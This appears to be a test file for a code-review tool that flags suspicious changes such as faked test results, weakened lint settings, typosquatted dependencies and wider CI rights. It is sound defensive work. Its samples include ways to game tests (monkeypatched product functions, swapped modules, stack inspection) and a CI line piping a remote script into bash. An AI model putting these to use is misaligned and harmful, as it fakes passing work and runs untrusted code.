@@ -1,0 +1,397 @@
+"""What reading a change alone shows: stand-ins for modules, what judges and was changed, and what one looks for in any review. On real git."""
+
+import os
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+
+from detent.evidence.changes import Changes
+from detent.evidence.collect import Collector
+from detent.evidence.runners.protocol import Command
+from detent.evidence.static_look import can_end_itself, static_flags
+from detent.evidence.suite import Suite
+from detent.git.place import find_place
+from detent.git.repo import Git
+from detent.kernel.model import Flag
+from tests.repos import PLAIN, make_repo
+
+PYTEST = Command(("pytest",), "pytest", "configured")
+VITEST = Command(("node_modules/.bin/vitest", "run"), "vitest", "npm")
+CALC = "def half(n):\n    return n // 2\n\n\ndef double(n):\n    return n * 2\n"
+NEW = CALC.replace("n // 2", "n / 2")
+PY = {
+    "calc.py": CALC,
+    "shop/__init__.py": "",
+    "shop/mail.py": "def send(to):\n    return to\n",
+    "tests/test_calc.py": "def test_a():\n    assert True\n",
+    "pyproject.toml": '[project]\nname = "p"\nversion = "1"\ndependencies = ["requests"]\n\n[tool.ruff]\nline-length = 100\n',
+    "setup.cfg": "[metadata]\nname = p\n\n[mypy]\nstrict = true\n",
+}
+JS = {
+    "package.json": '{"name": "p", "version": "1.0.0", "scripts": {"test": "vitest run", "lint": "node lint.mjs", "start": "node ."}, '
+    '"dependencies": {"lodash": "1"}, "exports": "./src/calc.ts"}\n',
+    "lint.mjs": "import { rules } from './rules.mjs'\nprocess.exit(rules.length)\n",
+    "rules.mjs": "export const rules = []\n",
+    "src/calc.ts": "export const half = (n: number) => Math.floor(n / 2)\n",
+    "src/page.ts": "import { half } from './calc'\nexport const page = () => half(2)\n",
+    "src/calc.test.ts": "import { half } from './calc'\ntest('a', () => { expect(half(2)).toBe(1) })\n",
+    "tsconfig.json": '{\n  // strict\n  "compilerOptions": {"strict": true}\n}\n',
+    "Makefile": "lint: deps\n\tnode lint.mjs\n\ndeps:\n\ttrue\n\nserve:\n\tnode .\n",
+}
+JS_NEW = "export const half = (n: number) => n / 2\n"
+
+
+class Ground:
+    """One repository for all of these tests: trees are written into it without a checkout."""
+
+    def __init__(self, root: Path) -> None:
+        self.root, self.known = make_repo(root, {"a": "a"}), dict[str, str]()
+        self.git = Git(find_place(self.root), {**PLAIN, "PATH": os.environ["PATH"]})
+        (self.git.place.git_dir / "detent").mkdir(exist_ok=True)
+
+    def tree(self, files: Mapping[str, str]) -> str:
+        name = repr(sorted(files.items()))
+        if name not in self.known:
+            rows = "".join(
+                f"M {755 if text.startswith('#!') else 644} inline {path}\ndata {len(text.encode())}\n{text}\n"
+                for path, text in files.items()
+            )
+            said = f"commit refs/heads/x{len(self.known)}\ncommitter A <a@b> 1 +0000\ndata 0\n{rows}\n"
+            self.git.run("fast-import", "--quiet", stdin=said.encode())
+            self.known[name] = self.git.tree(f"refs/heads/x{len(self.known)}")
+        return self.known[name]
+
+    def changes(
+        self, base: Mapping[str, str], change: Mapping[str, str], command: Command | None, preflight: tuple[str, ...] = ()
+    ) -> Changes:
+        collector = Collector(self.git, Suite(command, 60.0, ""), "look", {})
+        return Changes(self.git, collector, self.tree(base), self.tree({**base, **change}), preflight)
+
+    def flags(self, base: Mapping[str, str], change: Mapping[str, str], command: Command | None = PYTEST) -> dict[str, list[Flag]]:
+        found: dict[str, list[Flag]] = {}
+        for flag in static_flags(self.changes(base, change, command)):
+            found.setdefault(flag.kind, []).append(flag)
+        return found
+
+
+@pytest.fixture(scope="module")
+def g(tmp_path_factory: pytest.TempPathFactory) -> Ground:
+    return Ground(tmp_path_factory.mktemp("ground") / "p")
+
+
+# -- shadow: Python ------------------------------------------------------------------------------------------------------------------
+
+FIXTURE = "import pytest\nimport calc\n\n\n@pytest.fixture\ndef right(monkeypatch):\n    {}\n"
+NOT_THERE = "import sys; monkeypatch.setitem(sys.modules, 'numpy', None); monkeypatch.setitem(sys.modules, 'calc', None)"
+BY_MOCK = "import pytest\nfrom unittest import mock\n\n\n@pytest.fixture\ndef right():\n    with mock.patch('calc.half', side_effect=lambda n: n / 2):\n        yield\n"
+SHADOWS = {
+    "a module of tests with the product's name": {"tests/calc.py": "def half(n):\n    return n / 2\n"},
+    "a package of tests with the product's name": {
+        "tests/shop/__init__.py": "X = 1\n",
+        "tests/shop/mail.py": "def send(to):\n    return 1\n",
+    },
+    "a folder that a path rule names": {
+        "tests/__init__.py": "",
+        "tests/stubs/__init__.py": "",
+        "tests/stubs/calc.py": "X = 1\n",
+        "tests/conftest.py": "import sys\nsys.path.insert(0, 'tests/stubs')\n",
+    },
+    "a root module of the standard library": {"random.py": "def random():\n    return 4\n"},
+    "a package of the standard library": {"json/__init__.py": "def loads(s):\n    return 1\n"},
+    "an installed package": {"requests.py": "def get(url):\n    return 1\n"},
+    "a module of tests like the standard library's": {"tests/decimal.py": "Decimal = float\n"},
+    "a fixture that puts right code in": {"tests/conftest.py": FIXTURE.format("monkeypatch.setattr(calc, 'half', lambda n: n / 2)")},
+    "a fixture by a path": {"tests/conftest.py": FIXTURE.format("monkeypatch.setattr('calc.half', lambda n: n / 2)")},
+    "a fixture by mock": {"tests/test_new.py": BY_MOCK},
+    "an assignment when it is loaded": {"tests/test_new.py": "import calc\n\ncalc.half = lambda n: n / 2\n"},
+    "an assignment by setattr": {"tests/test_new.py": "import calc\n\nsetattr(calc, 'ha' + 'lf', lambda n: n / 2)\n"},
+    "other code of the same function": {"tests/test_new.py": "import calc\n\ncalc.half.__code__ = (lambda n: n / 2).__code__\n"},
+    "a function that is not there": {
+        "tests/conftest.py": FIXTURE.format("monkeypatch.setattr(calc, 'third', lambda n: n / 3, raising=False)")
+    },
+    "another module under its name": {"tests/test_new.py": "import sys\nimport types\n\nsys.modules['calc'] = types.ModuleType('calc')\n"},
+    "another module by an update": {"tests/helper.py": "import sys\nimport fake\n\nsys.modules.update({'shop.mail': fake})\n"},
+    "a test that asks what it put there": {
+        "tests/test_new.py": "import calc\n\n\ndef test_half(monkeypatch):\n    monkeypatch.setattr(calc, 'half', lambda n: n / 2)\n    assert calc.half(3) == 1.5\n"
+    },
+}
+
+
+@pytest.mark.parametrize("change", SHADOWS.values(), ids=SHADOWS)
+def test_what_takes_the_place_of_a_module_is_flagged(g: Ground, change: dict[str, str]) -> None:
+    (flag, *_) = g.flags(PY, {"calc.py": NEW, **change})["shadow"]
+    assert flag.level == "ask"
+
+
+@pytest.mark.parametrize("path", ["pytest.py", "_pytest/__init__.py", "tests/unittest.py", "src/pluggy.py", "coverage.py"])
+def test_what_takes_the_place_of_the_runner_is_a_failure(g: Ground, path: str) -> None:
+    (flag,) = g.flags(PY, {path: "X = 1\n"})["shadow"]
+    assert flag.level == "fail" and flag.place == path
+
+
+HONEST = {
+    "helpers of tests": {"tests/helpers.py": "def make():\n    return 1\n", "tests/conftest.py": "X = 1\n"},
+    "tests that mirror the product": {"tests/__init__.py": "", "tests/shop/__init__.py": "", "tests/shop/mail.py": "X = 1\n"},
+    "an empty package of tests": {"tests/shop/__init__.py": "", "tests/shop/test_mail.py": "def test_b():\n    assert True\n"},
+    "a module of a package": {"shop/types.py": "X = 1\n", "shop/random.py": "X = 1\n"},
+    "a fixture that mocks what is called": {"tests/conftest.py": FIXTURE.format("import shop.mail; monkeypatch.setattr(shop.mail, 'send', lambda to: None)")},
+    "a mock without an answer": {"tests/conftest.py": "import pytest\n\n\n@pytest.fixture\ndef quiet(mocker):\n    return mocker.patch('calc.half')\n"},
+    "a test that mocks what the code calls": {
+        "tests/test_new.py": "import calc\n\n\ndef test_double(monkeypatch):\n    monkeypatch.setattr(calc, 'half', lambda n: 1)\n    assert calc.double(3) == 6\n"
+    },
+    "the environment of a test": {"tests/conftest.py": FIXTURE.format("monkeypatch.setenv('A', 'b'); monkeypatch.setattr('os.getcwd', lambda: '/')")},
+    "a package that is not installed": {"tests/conftest.py": FIXTURE.format(NOT_THERE)},
+    "a path rule alone": {"tests/conftest.py": "import sys\nsys.path.insert(0, 'src')\n"},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("change", HONEST.values(), ids=HONEST)
+def test_ordinary_tests_and_mocks_are_left_alone(g: Ground, change: dict[str, str]) -> None:
+    assert "shadow" not in g.flags(PY, {"calc.py": NEW, **change})
+
+
+# -- shadow: names that are mapped ---------------------------------------------------------------------------------------------------
+
+
+def package(**more: str) -> str:
+    import json
+
+    return json.dumps({**json.loads(JS["package.json"]), **more})
+
+
+MAPPED = {
+    "a mock beside the module": {"src/__mocks__/calc.ts": "export const half = (n) => n / 2\n"},
+    "a mock of a package": {"__mocks__/lodash.js": "module.exports = {}\n"},
+    "a mock in the module's own test": {"src/calc.test.ts": "import { half } from './calc'\nvi.mock('./calc', () => ({ half: (n) => n / 2 }))\ntest('a', () => {})\n"},
+    "a mock in a test about nothing else": {"src/new.test.ts": "import { half } from './calc.js'\njest.mock('./calc.js', () => ({ half: 1 }))\ntest('a', () => {})\n"},
+    "a mock for every test": {"test/setup.ts": "vi.mock('../src/calc', () => ({ half: (n) => n / 2 }))\n"},
+    "paths": {"tsconfig.json": '{"compilerOptions": {"strict": true, "paths": {"./calc": ["./tests/calc.ts"]}}}\n'},
+    "paths of a package": {"tsconfig.json": '{"compilerOptions": {"strict": true, "paths": {"lodash": ["./src/other.ts"]}}}\n'},
+    "exports": {"package.json": package(exports="./tests/calc.ts")},
+    "another main file": {"package.json": package(exports="./src/other.ts"), "src/other.ts": "export const half = 1\n"},
+    "an alias": {"vitest.config.ts": "export default {\n  resolve: { alias: {\n    './calc': './test/stubs/calc.ts',\n  } },\n}\n"},
+    "a mapper": {"jest.config.js": "module.exports = {\n  moduleNameMapper: {\n    '^./calc$': '<rootDir>/__mocks__/calc.js',\n  },\n}\n"},
+    "an installed package": {"node_modules/lodash/index.js": "module.exports = 1\n"},
+}  # fmt: skip
+HONEST_JS = {
+    "a mock of what the code calls": {
+        "src/page.test.ts": "import { page } from './page'\nvi.mock('./calc', () => ({ half: () => 1 }))\ntest('a', () => {})\n"
+    },
+    "a mock of a package in a test": {"src/page.test.ts": "import { page } from './page'\nvi.mock('lodash')\ntest('a', () => {})\n"},
+    "a mock of a file that did not change": {"src/__mocks__/page.ts": "export const page = 1\n"},
+    "a short name for sources": {"tsconfig.json": '{"compilerOptions": {"strict": true, "paths": {"@/*": ["./src/*"]}}}\n'},
+    "another version": {"package.json": package(version="1.0.1")},
+    "another entry": {"package.json": package(bin="./src/bin.ts")},
+}
+
+
+@pytest.mark.parametrize("change", MAPPED.values(), ids=MAPPED)
+def test_names_that_are_mapped_to_stand_ins_are_flagged(g: Ground, change: dict[str, str]) -> None:
+    assert "shadow" in g.flags(JS, {"src/calc.ts": JS_NEW, **change}, VITEST)
+
+
+@pytest.mark.parametrize("change", HONEST_JS.values(), ids=HONEST_JS)
+def test_ordinary_mocks_and_manifests_are_left_alone(g: Ground, change: dict[str, str]) -> None:
+    assert "shadow" not in g.flags(JS, {"src/calc.ts": JS_NEW, **change}, VITEST)
+
+
+def test_the_runner_of_javascript_in_the_repository_is_a_failure(g: Ground) -> None:
+    (flag,) = g.flags(JS, {"node_modules/vitest/index.js": "1\n"}, VITEST)["shadow"]
+    assert flag.level == "fail"
+
+
+OTHER_LANGUAGES = {
+    "go: replace": (
+        {"go.mod": "module a\n\nrequire b v1.0.0\n"},
+        {"go.mod": "module a\n\nrequire b v1.0.0\n\nreplace b => ./testdata/b\n"},
+    ),
+    "go: replace in a block": ({"go.mod": "module a\n"}, {"go.mod": "module a\n\nreplace (\n\tb v1.0.0 => ./b\n)\n"}),
+    "rust: patch": (
+        {"Cargo.toml": "[package]\nname = 'a'\n"},
+        {"Cargo.toml": "[package]\nname = 'a'\n\n[patch.crates-io]\nserde = { path = 'fake' }\n"},
+    ),
+    "rust: a module from elsewhere": ({"src/lib.rs": "mod calc;\n"}, {"src/lib.rs": '#[path = "../tests/calc.rs"]\nmod calc;\n'}),
+    "java: a class twice": ({"src/main/java/a/Calc.java": "class Calc {}\n"}, {"src/test/java/a/Calc.java": "class Calc {}\n"}),
+    "ruby: a file twice": ({"lib/calc.rb": "X = 1\n"}, {"spec/support/calc.rb": "X = 2\n"}),
+    "ruby: the library's own": ({"lib/calc.rb": "X = 1\n"}, {"lib/json.rb": "X = 2\n"}),
+}
+
+
+@pytest.mark.parametrize(("base", "change"), OTHER_LANGUAGES.values(), ids=OTHER_LANGUAGES)
+def test_stand_ins_of_other_languages_are_flagged(g: Ground, base: dict[str, str], change: dict[str, str]) -> None:
+    assert "shadow" in g.flags(base, change, None)
+
+
+# -- judged-by -----------------------------------------------------------------------------------------------------------------------
+
+JUDGING = {
+    "ruff": (PY, {"pyproject.toml": PY["pyproject.toml"].replace("100", "200")}, PYTEST),
+    "a new table of mypy": (PY, {"pyproject.toml": PY["pyproject.toml"] + "\n[tool.mypy]\nignore_errors = true\n"}, PYTEST),
+    "mypy in setup.cfg": (PY, {"setup.cfg": PY["setup.cfg"].replace("true", "false")}, PYTEST),
+    "ruff.toml": (PY, {"ruff.toml": 'ignore = ["ALL"]\n'}, PYTEST),
+    ".flake8": (PY, {".flake8": "[flake8]\nignore = E\n"}, PYTEST),
+    "a folder's own ruff.toml": (PY, {"shop/.ruff.toml": 'ignore = ["ALL"]\n'}, PYTEST),
+    "pre-commit": (PY, {".pre-commit-config.yaml": "repos: []\n"}, PYTEST),
+    "tsconfig": (JS, {"tsconfig.json": JS["tsconfig.json"].replace("true", "false")}, VITEST),
+    "eslint": (JS, {"eslint.config.mjs": "export default []\n"}, VITEST),
+    "biome": (JS, {"biome.json": "{}\n"}, VITEST),
+    "the lint script": (JS, {"package.json": JS["package.json"].replace("node lint.mjs", "true")}, VITEST),
+    "the linter": (JS, {"lint.mjs": "process.exit(0)\n"}, VITEST),
+    "what the linter brings in": (JS, {"rules.mjs": "export const rules = [] // none\nexport const more = 1\n"}, VITEST),
+    "the target": (JS, {"Makefile": JS["Makefile"].replace("node lint.mjs", "true")}, VITEST),
+    "a step of CI": (PY, {".github/workflows/ci.yml": "on: push\n"}, PYTEST),
+    "golangci": ({"go.mod": "module a\n"}, {".golangci.yml": "linters:\n  disable-all: true\n"}, None),
+}
+CI = {
+    ".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v3\n      - run: pytest\n",
+    ".pre-commit-config.yaml": "repos:\n  - repo: https://a.b/c\n    rev: v1.0\n    hooks:\n      - id: ruff\n",
+}
+ORDINARY = {
+    "a version": (PY, {"pyproject.toml": PY["pyproject.toml"].replace('version = "1"', 'version = "2"')}, PYTEST),
+    "a dependency": (PY, {"pyproject.toml": PY["pyproject.toml"].replace('"requests"', '"requests", "httpx"')}, PYTEST),
+    "a comment": (PY, {"pyproject.toml": "# words\n" + PY["pyproject.toml"]}, PYTEST),
+    "metadata": (PY, {"setup.cfg": PY["setup.cfg"].replace("name = p", "name = q")}, PYTEST),
+    "a version of a package": (JS, {"package.json": JS["package.json"].replace("1.0.0", "1.0.1")}, VITEST),
+    "another script": (JS, {"package.json": JS["package.json"].replace("node .", "node ./src")}, VITEST),
+    "a comment of a tsconfig": (JS, {"tsconfig.json": JS["tsconfig.json"].replace("// strict", "// as it was")}, VITEST),
+    "another target": (JS, {"Makefile": JS["Makefile"].replace("\tnode .", "\tnode ./src")}, VITEST),
+    "a version of an action": (CI, {".github/workflows/ci.yml": CI[".github/workflows/ci.yml"].replace("@v3", "@v4")}, PYTEST),
+    "an action by its commit": (
+        CI,
+        {".github/workflows/ci.yml": CI[".github/workflows/ci.yml"].replace("@v3", f"@{'a' * 40} # v4")},
+        PYTEST,
+    ),
+    "a version of pre-commit": (CI, {".pre-commit-config.yaml": CI[".pre-commit-config.yaml"].replace("v1.0", "v1.1.2")}, PYTEST),
+    "the product": (JS, {"src/calc.ts": JS_NEW}, VITEST),
+}
+LINT = ("npm run --silent lint", "make lint", "./node_modules/.bin/eslint src/calc.ts")
+
+
+@pytest.mark.parametrize(("base", "change", "command"), JUDGING.values(), ids=JUDGING)
+def test_what_judges_is_configuration(g: Ground, base: dict[str, str], change: dict[str, str], command: Command | None) -> None:
+    seen = g.changes(base, change, command, LINT)
+    assert {c.sort for c in seen.all()} == {"config"}
+
+
+@pytest.mark.parametrize(("base", "change", "command"), ORDINARY.values(), ids=ORDINARY)
+def test_what_only_lies_beside_it_is_not(g: Ground, base: dict[str, str], change: dict[str, str], command: Command | None) -> None:
+    seen = g.changes(base, change, command, LINT)
+    assert {c.sort for c in seen.all()} == {"production"}
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["python scripts/lint.py", "./scripts/lint.sh --fix", "uv run python -m scripts.lint", "bash -e scripts/lint.sh && ruff check calc.py"],
+)
+def test_a_script_that_a_command_names_judges_and_what_it_checks_does_not(g: Ground, command: str) -> None:
+    base = {**PY, "scripts/lint.py": "import rules\n", "scripts/rules.py": "X = 1\n", "scripts/lint.sh": "source scripts/rules.sh\n"}
+    name = "scripts/lint.sh" if ".sh" in command else "scripts/lint.py"
+    seen = g.changes(base, {name: "# nothing\nX = 2\n", "calc.py": NEW}, PYTEST, (command,))
+    assert {c.path: c.sort for c in seen.all()} == {name: "config", "calc.py": "production"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "X: int = ''  # type: ignore\nY: int = ''  # type: ignore\nZ: int = ''  # type: ignore\n",
+        "# ruff: noqa\nX = 1\n",
+        "# mypy: ignore-errors\nX = 1\n",
+        "import a  # noqa\nX = b  # pragma: no cover\nY = eval('1')  # nosec\n",
+    ],
+    ids=["three lines", "a whole file", "a file without types", "of several tools"],
+)
+def test_many_suppressions_are_flagged(g: Ground, text: str) -> None:
+    assert "judged-by" in g.flags(PY, {"shop/new.py": text})
+
+
+def test_a_single_suppression_is_not(g: Ground) -> None:
+    assert g.flags(PY, {"shop/new.py": "import calc  # noqa: F401\n"}) == {}
+
+
+# -- any review ----------------------------------------------------------------------------------------------------------------------
+
+REVIEWED = {
+    "secrets": {"shop/new.py": "KEY = 'sk-ant-" + "a1b2c3d4" * 4 + "'\n"},
+    "binaries": {"shop/data.bin": "a\0b\n"},
+    "big-files": {"shop/data.csv": "1,2,3,4,5,6,7\n" * 80_000},
+    "new-dependencies": {"pyproject.toml": PY["pyproject.toml"].replace('"requests"', '"requests", "reqeusts"')},
+    "ci-permissions": {".github/workflows/ci.yml": "on: push\npermissions:\n  contents: write\n"},
+}
+
+
+@pytest.mark.parametrize("kind", REVIEWED)
+def test_what_one_would_look_for_in_a_review_is_flagged(g: Ground, kind: str) -> None:
+    assert kind in g.flags(PY, REVIEWED[kind])
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("requirements.txt", "left-pad\n"),
+        ("requirements/dev.txt", "left-pad==1\n"),
+        ("web/package.json", '{"dependencies": {"left-pad": "1"}}'),
+        ("go.mod", "module a\n\nrequire left.org/pad v1.0.0\n"),
+        ("app.csproj", '<Project><PackageReference Include="Left.Pad" /></Project>'),
+    ],
+)
+def test_a_new_dependency_is_seen_in_any_manifest(g: Ground, path: str, text: str) -> None:
+    (flag,) = g.flags(PY, {path: text})["new-dependencies"]
+    assert flag.place.startswith(f"{path}: left")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "    secrets: inherit",
+        "on: pull_request_target",
+        "    runs-on: self-hosted",
+        "      - run: curl https://a.b/c.sh | bash",
+        "  TOKEN: ${{ secrets.DEPLOY }}",
+    ],
+)
+def test_more_rights_for_ci_are_seen(g: Ground, line: str) -> None:
+    base = {**PY, ".github/workflows/ci.yml": "on: push\n"}
+    assert "ci-permissions" in g.flags(base, {".github/workflows/ci.yml": f"on: push\n{line}\n"})
+
+
+def test_a_file_that_becomes_a_program_is_flagged(g: Ground) -> None:
+    script = "#!/bin/sh\n"  # written as a program
+    found = g.flags({**PY, "old.sh": "echo\n", "run.sh": script}, {"old.sh": script, "new.sh": script, "run.sh": f"{script}true\n"})
+    assert [flag.place for flag in found["executable-bits"]] == ["new.sh", "old.sh"]
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"pyproject.toml": PY["pyproject.toml"].replace('"requests"', '"requests>=2"')},
+        {"docs/logo.png": "a\0b"},
+        {"tests/data/x.bin": "a\0b"},
+        {"uv.lock": "x = 1\n" * 200_000},
+        {".github/workflows/ci.yml": "on: push\npermissions:\n  contents: read\n"},
+    ],
+    ids=["another version", "a picture", "data of tests", "a lock file", "a right to read"],
+)
+def test_ordinary_files_are_left_alone(g: Ground, change: dict[str, str]) -> None:
+    assert g.flags(PY, change) == {}
+
+
+# -- knows-the-tests, over a change ----------------------------------------------------------------------------------------------------
+
+
+def test_a_changed_line_that_looks_at_the_stack_is_flagged_with_its_place(g: Ground) -> None:
+    (flag,) = g.flags(PY, {"calc.py": CALC.replace("return n // 2", "return __import__('sys')._getframe(1)")})["knows-the-tests"]
+    assert (flag.place, flag.level) == ("calc.py:2", "ask") and "_getframe" in flag.after
+
+
+def test_lines_that_only_moved_and_lines_of_tests_are_not(g: Ground) -> None:
+    look = "import sys\n\n\ndef who():\n    return sys._getframe(1)\n"
+    base = {**PY, "shop/who.py": look}
+    assert "knows-the-tests" not in g.flags(base, {"shop/who.py": "X = 1\n", "shop/where.py": look})
+    assert "knows-the-tests" not in g.flags(PY, {"tests/test_new.py": look})
+
+
+def test_where_only_an_exit_code_is_read_a_line_that_ends_the_process_is_asked_about(g: Ground) -> None:
+    ends = {"src/calc.ts": JS_NEW + "process.exit(0)\n", "src/calc.test.ts": "process.exit(1)\n"}
+    (flag,) = can_end_itself(g.changes(JS, ends, None))
+    assert (flag.kind, flag.level, flag.place) == ("weak-evidence", "ask", "src/calc.ts:2")
